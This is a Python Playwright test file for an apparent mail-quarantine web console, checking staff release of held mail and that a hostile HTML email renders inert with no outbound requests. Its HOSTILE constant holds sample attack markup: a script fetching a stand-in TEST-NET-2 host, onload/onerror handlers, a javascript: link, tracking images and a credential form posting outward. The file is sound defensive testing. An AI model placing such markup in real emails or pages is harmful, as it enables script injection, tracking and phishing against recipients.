"""The console in Debian's chromium (Playwright): staff log in, filter, open a mail held
through SMTP, release it and it arrives at the sink; a hostile HTML mail shows nothing
active and nothing leaves the page."""

from __future__ import annotations

import pytest

from tests.support.browser import chromium
from tests.support.console import PASSWORD

OUTSIDE = "198.51.100.7"  # TEST-NET-2: any request to it is a leak

HOSTILE = (
    "From: spammer@sender.test\r\nTo: bob@example.test\r\nSubject: hostile html\r\n"
    "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    f"<html><head><style>body{{background:url(http://{OUTSIDE}/style.png)}}</style>"
    f"<script>document.title='pwned';fetch('http://{OUTSIDE}/script')</script></head>"
    "<body onload=\"document.title='onload'\">"
    f'<p>Dear customer</p><img src="http://{OUTSIDE}/pixel.gif" '
    "onerror=\"document.title='onerror'\">"
    f"<div style=\"background-image:url('http://{OUTSIDE}/css.png')\">styled</div>"
    "<a href=\"javascript:document.title='clicked'\">click here</a>"
    f'<a href="http://{OUTSIDE}/phish">your bank</a>'
    f'<form action="http://{OUTSIDE}/form" method=post><input name=pw><button>go</button></form>'
    f'<iframe src="http://{OUTSIDE}/frame"></iframe>'
    f'<svg onload="document.title=\'svg\'"><image href="http://{OUTSIDE}/svg.png"/></svg>'
    "</body></html>\r\n"
)


@pytest.fixture(scope="module")
def browser():
    with chromium() as running:
        yield running


def log_in(page, url: str, name: str) -> None:
    page.goto(url + "/login")
    page.fill("input[name=username]", name)
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url(url + "/quarantine")


def test_staff_filter_open_release_and_it_arrives(console, browser):
    console.send(
        b"From: spammer@sender.test\r\nTo: bob@example.test\r\nSubject: browser release\r\n"
        b"\r\nplease release me\r\n",
        ["bob@example.test"],
    )
    item = console.held_for("browser release")
    page = browser.new_page()
    log_in(page, console.url, "sam")
    page.fill("input[name=subject]", "browser release")
    page.click("form.filters button[type=submit]")
    rows = page.locator("table.items tbody tr[data-href]")
    assert rows.count() == 1
    page.keyboard.press("j")  # keyboard: move to the row, select it, open it
    page.keyboard.press("x")
    assert page.locator("tr.current input[type=checkbox]").is_checked()
    page.keyboard.press("Enter")
    page.wait_for_url(f"{console.url}/quarantine/{item}")
    assert "please release me" in page.locator("pre.text").inner_text()
    page.click("#release")
    page.wait_for_url(f"{console.url}/quarantine/{item}")
    assert page.locator(".status").inner_text() == "release_requested"
    arrived = console.arrived(b"please release me")  # not just any mail at the sink
    assert arrived and list(arrived[0].rcpts) == ["bob@example.test"]
    page.close()


def test_hostile_html_is_inert_and_nothing_leaves(console, browser):
    console.send(HOSTILE.encode(), ["bob@example.test"])
    item = console.held_for("hostile html")
    context = browser.new_context()
    requests: list[str] = []
    context.on("request", lambda r: requests.append(r.url))
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    log_in(page, console.url, "sam")
    page.goto(f"{console.url}/quarantine/{item}")
    frame_element = page.locator("iframe.html")
    assert frame_element.get_attribute("sandbox") == ""
    frame = frame_element.element_handle().content_frame()
    frame.wait_for_load_state()
    body = frame.locator("body")
    assert "Dear customer" in body.inner_text() and "click here" in body.inner_text()
    for tag in ("script", "style", "img", "form", "input", "iframe", "svg", "image"):
        assert frame.locator(tag).count() == 0, tag
    assert frame.locator("[onload], [onerror], [style], [href]").count() == 0
    frame.locator("a", has_text="click here").click()
    page.wait_for_timeout(200)
    assert page.title() == f"{item} · mailwarden"  # no handler or script renamed it
    assert frame.evaluate("document.title") == ""
    # the links are shown as text, not followed
    assert f"http://{OUTSIDE}/phish" in page.locator("ul.links").inner_text()
    assert page.locator(f"a[href*='{OUTSIDE}']").count() == 0
    assert dialogs == []
    leaked = [u for u in requests if not u.startswith(console.url)]
    assert leaked == [], leaked
    assert not any(OUTSIDE in u for u in requests)
    context.close()
